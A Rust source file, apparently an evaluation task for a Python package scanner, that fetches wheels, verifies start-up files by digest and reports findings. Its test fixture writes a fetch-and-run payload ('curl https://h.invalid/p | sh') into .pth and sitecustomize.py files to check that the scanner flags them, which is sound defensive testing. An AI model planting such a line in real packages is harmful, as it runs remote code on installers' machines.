//! `cargo xtask eval startup`: what is said of start-up files that honest projects ship.

use std::collections::BTreeMap;
use std::fs;
use std::io::{Cursor, Read as _};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use anyhow::{Context as _, Result, bail, ensure};
use clap::Args;
use serde::Deserialize;
use sha2::{Digest as _, Sha256};
use spip_core::Severity;

use super::interval::Share;
use super::judge::{self, Said};

/// The largest start-up file.
const LARGEST: u64 = 8 << 20;

/// What to measure on.
#[derive(Args)]
pub(crate) struct Arguments {
    /// A JSON list of start-up files: `wheel`, `file` and `sha256` of each.
    #[arg(long, value_name = "FILE")]
    data: PathBuf,
    /// Where the wheels are kept. What is missing is fetched once.
    #[arg(long, value_name = "DIR", default_value = "target/startup")]
    store: PathBuf,
}

/// A start-up file of a published wheel.
#[derive(Clone, Debug, Deserialize)]
struct Listed {
    /// The file name of the wheel.
    wheel: String,
    /// The path within.
    file: String,
    /// The digest of the file, in hexadecimal.
    sha256: String,
}

/// A start-up file and what was said of it.
struct Judged {
    listed: Listed,
    /// In its wheel, about this file; `None`: nothing.
    within: Option<Severity>,
    /// By itself, as it lies among the packages, where it acts by its name.
    alone: Said,
}

impl Judged {
    fn worst(&self) -> Option<Severity> {
        self.within.max(self.alone.worst())
    }

    /// Nobody is asked about it, and all of it was read.
    fn is_quiet(&self) -> bool {
        self.worst() < Some(Severity::Medium) && self.alone.unknown.is_empty()
    }
}

/// Judges every file in its wheel, and by itself, prints those that are told of and the figures, and
/// fails unless all are quiet.
pub(crate) fn run(arguments: &Arguments) -> Result<()> {
    let text =
        fs::read(&arguments.data).with_context(|| format!("{}", arguments.data.display()))?;
    let listed: Vec<Listed> = serde_json::from_slice(&text).context("the list")?;
    ensure!(!listed.is_empty(), "no start-up file is listed");
    fs::create_dir_all(&arguments.store)?;
    let mut wheels: BTreeMap<String, Vec<Listed>> = BTreeMap::new();
    for one in listed {
        wheels.entry(one.wheel.clone()).or_default().push(one);
    }
    let mut judged = Vec::new();
    for (wheel, files) in wheels {
        judged.extend(judge(&wheel, files, &arguments.store)?);
    }
    for line in lines(&judged) {
        crate::say(format_args!("{line}"))?;
    }
    let loud = judged.iter().filter(|one| !one.is_quiet()).count();
    ensure!(loud == 0, "{loud} start-up files are not quiet");
    Ok(())
}

/// Judges the start-up files of one wheel.
fn judge(wheel: &str, files: Vec<Listed>, store: &Path) -> Result<Vec<Judged>> {
    let bytes = fetched(wheel, store)?;
    let texts: Vec<Vec<u8>> = files
        .iter()
        .map(|one| member(&bytes, one))
        .collect::<Result<_>>()?;
    let said = judge::file(wheel, bytes)?;
    let judge = |(listed, text): (Listed, Vec<u8>)| {
        let name = listed.file.rsplit('/').next().unwrap_or_default();
        Ok(Judged {
            within: said.told_of.get(&listed.file).copied(),
            alone: judge::file(name, text)?,
            listed,
        })
    };
    files.into_iter().zip(texts).map(judge).collect()
}

/// The bytes of a wheel, fetched unless they are there.
fn fetched(wheel: &str, store: &Path) -> Result<Vec<u8>> {
    ensure!(!wheel.contains(['/', '\\']), "{wheel:?} is no file name");
    let path = store.join(wheel);
    if !path.exists() {
        let mut parts = wheel.split('-');
        let (Some(name), Some(version)) = (parts.next(), parts.next()) else {
            bail!("{wheel:?} is no wheel's name");
        };
        let status = Command::new("python3")
            .args(["-m", "pip", "download", "--quiet", "--no-deps"])
            .args(["--only-binary=:all:", "--dest"])
            .arg(store)
            .arg(format!("{name}=={version}"))
            .stdin(Stdio::null())
            .status()
            .context("start python3")?;
        ensure!(status.success(), "{wheel}: not fetched: {status}");
    }
    fs::read(&path).with_context(|| format!("{}: not what pip takes here", path.display()))
}

/// One file of a wheel; its digest must be the one of the list.
fn member(wheel: &[u8], listed: &Listed) -> Result<Vec<u8>> {
    let context = || format!("{} of {}", listed.file, listed.wheel);
    let mut archive = zip::ZipArchive::new(Cursor::new(wheel)).with_context(context)?;
    let file = archive.by_name(&listed.file).with_context(context)?;
    let mut bytes = Vec::new();
    file.take(LARGEST).read_to_end(&mut bytes)?;
    let digest = data_encoding::HEXLOWER.encode(&Sha256::digest(&bytes));
    ensure!(digest == listed.sha256, "{}: its digest differs", context());
    Ok(bytes)
}

/// Every file that something is said of, and the figures.
fn lines(judged: &[Judged]) -> Vec<String> {
    let mut lines = Vec::new();
    let (mut quiet, mut silent) = (Share::default(), Share::default());
    for one in judged {
        quiet.count(one.is_quiet());
        silent.count(one.worst().is_none() && one.is_quiet());
        if one.worst().is_none() && one.is_quiet() {
            continue;
        }
        let word = if one.is_quiet() { "note" } else { "loud" };
        let within = one.within.map_or("nothing".to_owned(), |it| it.to_string());
        let alone = words(&one.alone);
        lines.push(format!(
            "{word}    {} of {}: {within} in its wheel; by itself {alone}",
            one.listed.file, one.listed.wheel
        ));
    }
    lines.push(format!("start-up files quiet    {}", quiet.words()));
    lines.push(format!("start-up files silent   {}", silent.words()));
    lines
}

fn words(said: &Said) -> String {
    let findings = said.findings.iter();
    let findings = findings.map(|(check, severity, title)| format!("{severity}[{check}] {title}"));
    let unread = said.unknown.iter().map(|it| format!("unread {it}"));
    let all: Vec<_> = findings.chain(unread).collect();
    if all.is_empty() {
        return "nothing".to_owned();
    }
    all.join(", ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn listed(file: &str, text: &[u8]) -> Listed {
        Listed {
            wheel: "demo-1.0-py3-none-any.whl".to_owned(),
            file: file.to_owned(),
            sha256: data_encoding::HEXLOWER.encode(&Sha256::digest(text)),
        }
    }

    fn store(files: &[(&str, &[u8])]) -> tempfile::TempDir {
        use std::io::Write as _;

        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("demo-1.0-py3-none-any.whl");
        let mut archive = zip::ZipWriter::new(fs::File::create(path).unwrap());
        for (name, text) in files {
            let options = zip::write::SimpleFileOptions::default();
            archive.start_file(*name, options).unwrap();
            archive.write_all(text).unwrap();
        }
        archive.finish().unwrap();
        folder
    }

    fn judged(file: &str, text: &[u8]) -> Judged {
        let folder = store(&[("demo/__init__.py", b""), (file, text)]);
        let one = listed(file, text);
        let mut all = judge(&one.wheel.clone(), vec![one], folder.path()).unwrap();
        all.pop().unwrap()
    }

    #[test]
    fn start_up_files_that_fetch_and_run_are_loud() {
        let payload = b"import os; os.system('curl https://h.invalid/p | sh')\n";
        for file in ["demo.pth", "sitecustomize.py"] {
            let one = judged(file, payload);
            assert!(!one.is_quiet(), "{file}");
            assert!(one.within >= Some(Severity::Medium), "{file}");
            assert!(lines(&[one])[0].starts_with("loud "), "{file}");
        }
    }

    #[test]
    fn a_path_is_quiet_though_noted() {
        let lines = lines(&[judged("demo.pth", b"demo\n")]);
        assert!(lines[0].starts_with("note "), "{lines:?}");
        assert!(lines[1].contains("quiet    1/1 "), "{lines:?}");
        assert!(lines[2].contains("silent   0/1 "), "{lines:?}");
    }

    #[test]
    fn another_content_than_the_list_has_is_an_error() {
        let folder = store(&[("demo.pth", b"demo\n")]);
        let one = listed("demo.pth", b"other\n");
        let wheel = one.wheel.clone();
        assert!(judge(&wheel, vec![one], folder.path()).is_err());
    }
}
